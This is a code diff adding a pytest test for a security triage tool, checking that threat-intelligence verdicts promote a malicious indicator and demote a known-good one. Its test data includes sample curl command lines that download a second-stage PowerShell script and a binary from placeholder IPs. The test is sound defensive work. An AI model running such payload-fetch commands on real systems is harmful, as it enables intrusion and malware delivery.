@@ -337,3 +337,39 @@ def test_sigma_engine_result_object_is_read() -> None:
     assert "Sigma critical: Process discovery with tasklist [T1057]" in top["reasons"]
     with pytest.raises(TypeError, match="expected a DataFrame of Sigma matches"):
         run_triage(loaded, executor=InlineExecutor(), sigma=lambda events: 42)
+
+
+def test_threat_intelligence_promotes_malicious_and_demotes_known_good() -> None:
+    import attrs
+
+    from asisdk.pipeline import load_frame, run_triage
+    from asisdk.pipeline._triage import rerank_findings
+
+    events = pd.DataFrame(
+        {
+            "CommandLine": [
+                "curl http://203.0.113.7/stage2.ps1 -o s.ps1",
+                "curl http://198.51.100.20/update.bin -o u.bin",
+            ],
+            "Computer": ["ws1", "ws1"],
+        }
+    )
+    first = run_triage(load_frame(events))
+    assert {"indicator"} <= set(first.finding_reasons["kind"])
+    verdicts = pd.DataFrame(
+        {
+            "value": ["http://203.0.113.7/stage2.ps1"],
+            "verdict": ["malicious"],
+            "severity": [90],
+            "provider": ["otx"],
+        }
+    )
+    # the second address is known good: the CLI marks it ti_demote from the TI answer
+    iocs = first.iocs.assign(ti_demote=first.iocs["observable"].str.contains("198.51.100.20"))
+    again = rerank_findings(attrs.evolve(first, iocs=iocs), ti_verdicts=verdicts)
+    top = again.findings.iloc[0]
+    assert "203.0.113.7" in top["command_line"]
+    assert "threat_intel" in top["reason_kinds"]
+    demoted = again.finding_reasons.merge(again.findings[["rank", "command_line"]], on="rank")
+    known_good = demoted[demoted["command_line"].str.contains("198.51.100.20")]
+    assert "indicator" not in set(known_good["kind"])
